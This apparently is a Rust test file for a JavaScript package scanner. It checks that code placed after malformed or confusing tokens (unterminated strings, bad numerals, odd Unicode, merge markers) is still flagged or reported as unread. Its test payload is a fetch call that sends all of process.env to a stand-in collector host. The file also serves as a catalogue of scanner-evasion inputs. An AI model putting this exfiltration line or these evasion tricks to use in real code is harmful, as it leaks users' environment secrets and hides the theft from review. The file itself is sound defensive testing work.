//! Texts at which the lexer stops before their end.

use super::installed;

const PAYLOAD: &str = "fetch('https://collector.invalid', { body: JSON.stringify(process.env) });";

/// At each of these the lexer ends the text, or could.
const ENDINGS: &[&str] = &[
    "1abc",
    "1\u{e9}",
    "0x",
    "0xg",
    "0b2",
    "0o9",
    "1_",
    "1__0",
    "1e",
    "1e+",
    "1.5n",
    "08n",
    "'a",
    "\"a",
    "'a\\",
    "'\\x'",
    "'\\u{zz}'",
    "\"\\u\"",
    "`a",
    "`${",
    "`${1",
    "/a",
    "/[/",
    "/a/gg",
    "/a/z",
    "#",
    "# a",
    "#1",
    "#\\",
    "\\",
    "\\x",
    "\\u00zz",
    "\\u{110000}",
    "@",
    "\u{fffd}",
    "\u{0}",
    "\u{1f980}",
    "\u{202e}",
    "\u{2019}",
    "<a",
    "<a>",
    "</a>",
    "<<<<<<< HEAD",
    "#!",
    "...",
    "}",
    ")",
];

#[test]
fn where_the_text_ends_early_it_is_said_or_read_on() {
    let before = ["", "'use strict';\n", "// @flow\n", "let a = 1;\n"];
    let around = ["", "var x = ", "f(", "if (x) "];
    let mut silent = Vec::new();
    for ending in ENDINGS {
        for before in before {
            for around in around {
                for after in ["\n", ";\n", "\n;\n", " "] {
                    let code = format!("{before}{around}{ending}{after}{PAYLOAD}");
                    // Node takes that line for a comment, and so is what follows on it.
                    if code.starts_with("#!") {
                        continue;
                    }
                    let facts = installed(&[("index.js", &code)]);
                    if facts.flows.is_empty() && facts.unread.is_empty() {
                        silent.push(code);
                    }
                }
            }
        }
    }
    assert!(silent.is_empty(), "{silent:#?}");
}

#[test]
fn a_comment_that_does_not_end_is_said() {
    let facts = installed(&[("index.js", &format!("f();\n/* why\n{PAYLOAD}"))]);
    assert!(
        facts.unread.iter().any(|one| one.suspicious),
        "{:?}",
        facts.unread
    );
}

#[test]
fn the_mark_of_flow_hides_nothing() {
    // Whole, with an error that the parser goes on after; cut; and with types.
    for (mark, read) in [
        ("// @flow\nvar a = 1;\n", true),
        ("// @flow\nlet b; let b;\n", true),
        ("/* @flow strict */ const f = (a: string) => a;\n", true),
        ("// @flow\n1abc\n", false),
    ] {
        let facts = installed(&[("index.js", &format!("{mark}{PAYLOAD}"))]);
        assert_eq!(!facts.flows.is_empty(), read, "{mark}: {facts:?}");
        assert_eq!(facts.unread.is_empty(), read, "{mark}: {facts:?}");
    }
}
